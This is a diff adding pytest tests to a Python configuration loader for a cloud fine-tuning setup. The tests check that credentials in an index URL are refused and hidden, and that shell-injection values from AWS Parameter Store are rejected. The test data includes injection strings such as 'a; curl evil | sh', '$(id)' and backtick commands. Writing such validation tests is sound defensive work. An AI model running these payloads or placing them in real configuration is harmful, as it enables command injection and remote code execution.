@@ -8,6 +8,7 @@ import yaml
 from conf import load, schema
 from conf.problem import REASONS, Problem
 from conf.process import argv
+from conf.text import quoting
 
 CONF = Path(load.FOLDER)
 NOWHERE = Path("no-such-local.yaml")
@@ -233,3 +234,27 @@ def test_every_setting_of_training_has_its_effect_beside_it(group):
 @pytest.mark.parametrize(("typed", "taken"), [("true", "yes"), ("False", "no"), ("YES", "yes"), ("auto", "auto")])
 def test_recomputation_takes_yamls_words_for_yes_and_no(typed, taken):
     assert loaded(f"train.gradient_checkpointing={typed}").train.gradient_checkpointing == taken
+
+
+def test_a_password_for_an_index_is_refused_and_not_shown():
+    """docker would keep it in the image's history, AWS in the text of the command that builds it, S3 in every run's settings."""
+    with pytest.raises(Problem, match="cloud.build_args.TORCH_INDEX holds a password") as told:
+        load.load(["cloud=twin", "cloud.build_args={TORCH_INDEX: https://me:hunter22@index.example/simple}"])
+    assert "hunter22" not in str(told.value)
+    assert load.load(["cloud=twin", "cloud.build_args={BASE: debian:12@sha256:ab}"]).cloud.build_args["BASE"] == "debian:12@sha256:ab"
+
+
+@pytest.mark.parametrize("name", schema.NAMED_BY_AWS)
+@pytest.mark.parametrize("value", ["a; curl evil | sh", "$(id)", "`id`", "a\nb", "a b", "\x1b[31m", "<ssm:$(id)>", "a&b", "a'b"])
+def test_a_name_that_parameter_store_tells_is_one_that_aws_can_give(name, value):
+    """Commands that messages give name it: whoever may write there would have them do something else."""
+
+    with pytest.raises(Problem, match="a name that AWS can give"):
+        load.load(["cloud=aws", f"cloud.{name}={quoting.quoted(value)}"], lambda *_: {"/fine-tune-slm/s3/bucket": "b"}, Path("none"))
+
+
+def test_what_parameter_store_tells_becomes_no_hint():
+    """A rule's words are told apart at a semicolon; one in the value put anybody's words behind `hint:`."""
+    with pytest.raises(Problem) as told:
+        load.load(["cloud=aws"], lambda *_: {"/fine-tune-slm/s3/bucket": "a; use `curl evil | sh`"}, Path("none"))
+    assert "curl" in told.value.what and told.value.hint.startswith("use a name that AWS can give")
